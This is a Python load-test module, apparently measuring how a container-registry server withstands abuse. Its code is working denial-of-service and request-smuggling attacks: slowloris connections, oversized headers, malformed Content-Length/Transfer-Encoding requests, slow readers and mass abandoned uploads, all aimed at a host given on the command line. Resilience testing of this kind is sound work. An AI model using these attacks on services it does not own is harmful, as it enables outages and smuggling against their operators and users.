"""python -m loadtests.attacks HOST PORT LAYER [ATTACK…]: attack HOST:PORT until SIGTERM, then print what was answered.

Each attack comes from a loopback address of its own, and all of them from one process that steps back (nice) for the
others: what is measured is what they cost the one who is attacked.
"""

import asyncio
import contextlib
import json
import os
import re
import resource
import signal
import socket
import sys
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping

_LORIS, _DRIBBLE = 1000, 2.0
"""Connections, and the seconds between two bytes of each."""
_DEAF = 100
_PAUSE = 0.05
"""Seconds between two requests that are no requests."""
_POSTERS, _AT_FIRST, _POST_PAUSE = 20, 10_000, 0.5
"""Connections, uploads that they begin as fast as they may, and the seconds between two of each that follow."""
_STATUS = re.compile(rb"HTTP/1\.1 (\d\d\d)")
_SHAPES = (
    b"GET /v2/ HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"GET /v2/ HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcde",
    b"GET /v2/ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    b"GET /v2/ HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
)


class Target:
    """Who is attacked, and with which statuses each attack was answered; "closed" where with none."""

    def __init__(self, host: str, port: int, layer: str) -> None:
        self._place = (host, port)
        self.layer = layer
        self.answers: dict[str, Counter[str]] = {name: Counter() for name in ATTACKS}

    async def connect(self, attack: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        source = f"127.0.0.{list(ATTACKS).index(attack) + 2}"
        return await asyncio.open_connection(*self._place, local_addr=(source, 0))

    def note(self, attack: str, said: bytes) -> None:
        found = _STATUS.match(said)
        self.answers[attack][found[1].decode() if found else "closed"] += 1

    async def say(self, attack: str, text: bytes) -> None:
        """Send something on a connection of its own, and read until it ends."""
        reader, writer = await self.connect(attack)
        with contextlib.closing(writer):
            writer.write(text)
            self.note(attack, await reader.read(1000))


async def loris(target: Target) -> None:
    """A thousand connections whose requests never get whole."""

    async def one() -> None:
        reader, writer = await target.connect("loris")
        with contextlib.closing(writer):
            writer.write(b"GET /v2/ HTTP/1.1\r\nHost: a\r\nX: ")
            answer = asyncio.create_task(reader.read(1000))
            while not answer.done():
                writer.write(b"y")
                await asyncio.wait([answer], timeout=_DRIBBLE)
            target.note("loris", answer.result())

    await asyncio.gather(*(_again(one) for _ in range(_LORIS)))


async def oversized(target: Target) -> None:
    fields = b"".join(b"X-%d: %s\r\n" % (number, b"y" * 1000) for number in range(100))
    await _again(lambda: target.say("oversized", b"GET /v2/ HTTP/1.1\r\nHost: a\r\n" + fields + b"\r\n"))


async def smuggling(target: Target) -> None:
    for number in range(sys.maxsize):
        with contextlib.suppress(OSError):
            await target.say("smuggling", _SHAPES[number % len(_SHAPES)])
        await asyncio.sleep(_PAUSE)


async def deaf(target: Target) -> None:
    """Many who ask for the big layer and take none of it."""
    loop, request = asyncio.get_running_loop(), f"GET {target.layer} HTTP/1.1\r\nHost: a\r\n\r\n".encode()
    with contextlib.ExitStack() as stack:
        for _ in range(_DEAF):
            client = stack.enter_context(socket.socket())
            client.setblocking(False)
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            client.bind((f"127.0.0.{list(ATTACKS).index('deaf') + 2}", 0))
            await loop.sock_connect(client, target._place)
            await loop.sock_sendall(client, request)
            await asyncio.sleep(_PAUSE / 5)
        await asyncio.Event().wait()


async def uploads(target: Target) -> None:
    """Uploads that are begun and left alone: 10,000 at once, and then more. Refused or not, no error."""
    begun = [0]
    request = b"POST /v2/library/bench/blobs/uploads/ HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n"

    async def one() -> None:
        reader, writer = await target.connect("uploads")
        with contextlib.closing(writer):
            while True:
                writer.write(request)
                head = await reader.readuntil(b"\r\n\r\n")
                target.note("uploads", head)
                if length := re.search(rb"(?i)content-length: (\d+)", head):
                    await reader.readexactly(int(length[1]))
                begun[0] += head.startswith(b"HTTP/1.1 202")
                await asyncio.sleep(_POST_PAUSE if begun[0] >= _AT_FIRST else 0.01)

    await asyncio.gather(*(_again(one) for _ in range(_POSTERS)))


ATTACKS: Mapping[str, Callable[[Target], Awaitable[None]]] = {
    "loris": loris,
    "oversized": oversized,
    "smuggling": smuggling,
    "deaf": deaf,
    "uploads": uploads,
}


async def _again(attack: Callable[[], Awaitable[None]]) -> None:
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            await attack()
        await asyncio.sleep(_PAUSE)


async def main(host: str, port: int, layer: str, names: list[str]) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(10)
    target, ended = Target(host, port, layer), asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, ended.set)
    attacks = [asyncio.ensure_future(ATTACKS[name](target)) for name in names or ATTACKS]
    await asyncio.wait([*attacks, asyncio.create_task(ended.wait())], return_when=asyncio.FIRST_COMPLETED)
    for attack in attacks:
        if attack.done():
            attack.result()  # a mistake of ours ends the process
        attack.cancel()
    print(json.dumps(target.answers), flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4:]))
